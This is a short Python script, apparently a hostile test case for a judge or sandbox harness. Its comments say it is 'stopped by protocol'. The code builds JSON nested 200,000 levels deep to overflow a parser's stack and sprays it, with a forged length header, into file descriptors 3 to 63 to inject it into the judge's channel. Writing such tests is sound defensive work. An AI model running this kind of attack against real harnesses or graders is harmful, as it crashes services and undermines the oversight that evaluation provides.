# tries: JSON that is nested deeper than any parser's stack
# stopped-by: protocol
# wins: judge
# naive: trusting
import os
import struct

text = b'{"kind":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack("<IQ", len(text), 0))
        for start in range(0, len(text), 4096):
            os.write(fd, text[start : start + 4096])
    except OSError:
        pass
